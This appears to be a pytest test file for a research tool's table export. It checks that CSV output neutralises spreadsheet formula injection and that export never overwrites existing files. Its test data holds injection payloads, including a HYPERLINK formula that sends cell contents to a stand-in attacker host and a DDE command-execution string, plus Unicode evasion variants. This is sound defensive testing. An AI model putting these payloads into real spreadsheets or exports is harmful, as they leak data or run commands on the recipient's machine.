"""Tables as files: no text of a researcher is a formula in a spreadsheet, and nothing is written
over."""

import csv
import io
import json

import pytest
from typer.testing import CliRunner

import aarlab
from aarlab.cli.main import app
from aarlab.core.errors import Misconfigured
from aarlab.core.layout import CampaignFolder
from aarlab.evaluation.ledger.ledger import Ledger
from aarlab.programs.table_export import as_csv, as_json_lines, export
from aarlab.programs.table_rows import COLUMNS
from tests.fleet.fleets import campaign_folder

FORMULAS = (
    '=HYPERLINK("http://evil.example?x="&A1,"click")',
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1)",
    "\t=1+1",
    "\r\n=1+1",
    " \x00 =1+1",
    "\u200b=1+1",
    "\ufeff=1+1",
    "\u00a0=1+1",
    "\uff1d1+1",
    "\x1b[1m=1+1",
)


def read(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline="")))


@pytest.mark.parametrize("words", FORMULAS, ids=range(len(FORMULAS)))
def test_a_text_that_begins_like_a_formula_is_text(words):
    (_, (cell, listed)) = read(as_csv(("a", "b"), [{"a": words, "b": [words]}]))
    assert cell.startswith("'")
    assert "\x00" not in cell + listed
    assert not listed.startswith(("=", "+", "-", "@"))


def test_numbers_lists_and_what_is_not_known_keep_their_meaning():
    row = {"a": -0.5, "b": None, "c": True, "d": ["r-1", "r-2"], "e": 'x, "y"\nz', "f": 7}
    text = as_csv(tuple(row), [row])
    assert read(text) == [list("abcdef"), ["-0.5", "", "true", '["r-1", "r-2"]', row["e"], "7"]]
    assert [json.loads(line) for line in as_json_lines(tuple(row), [row]).splitlines()] == [row]


@pytest.fixture
def folder(tmp_path):
    made = campaign_folder(tmp_path)
    ledger = Ledger(CampaignFolder(made).server.ledger)
    ledger.append("finding", "researcher-1", {"title": FORMULAS[0], "text": "=1+1", "kind": "x"})
    ledger.close()
    return made


@pytest.mark.parametrize("form", ["csv", "jsonl"])
def test_every_table_is_a_file_with_the_rows_that_a_reader_has(folder, tmp_path, form):
    reader = aarlab.open(folder)
    files = export(reader, tmp_path / "new" / "out", form)
    assert {path.name for path in (tmp_path / "new" / "out").iterdir()} == {p.name for p in files}
    assert [path.stem for path in files] == list(COLUMNS)
    for path in files:
        text, rows = path.read_bytes().decode(), reader.rows(path.stem)
        if form == "jsonl":
            assert [json.loads(line) for line in text.splitlines()] == rows
        else:
            assert read(text)[0] == list(COLUMNS[path.stem])
            assert len(read(text)) == 1 + len(rows)
    assert "=HYPERLINK" in (tmp_path / "new" / "out" / f"findings.{form}").read_text()


def test_nothing_is_written_over(folder, tmp_path):
    (tmp_path / "there").mkdir()
    (tmp_path / "file").write_text("mine")
    (tmp_path / "link").symlink_to(tmp_path / "nowhere")
    for name in ("there", "file", "link"):
        with pytest.raises(Misconfigured, match="is there already"):
            export(aarlab.open(folder), tmp_path / name, "csv")
    with pytest.raises(Misconfigured, match="cannot be made"):
        export(aarlab.open(folder), tmp_path / "file" / "below", "csv")
    assert not list((tmp_path / "there").iterdir())
    assert (tmp_path / "file").read_text() == "mine"


def test_the_command_prints_its_files_and_asks_for_a_form(folder, tmp_path, monkeypatch):
    monkeypatch.chdir(tmp_path)
    done = CliRunner().invoke(app, ["export", str(folder), "--csv"])
    assert done.exit_code == 0, done.output
    assert done.output.splitlines() == [f"small-csv/{table}.csv" for table in COLUMNS]
    for words in ([], ["--csv", "--jsonl"]):
        asked = CliRunner().invoke(app, ["export", str(folder), *words])
        assert "--csv for spreadsheets, or --jsonl" in str(asked.exception)
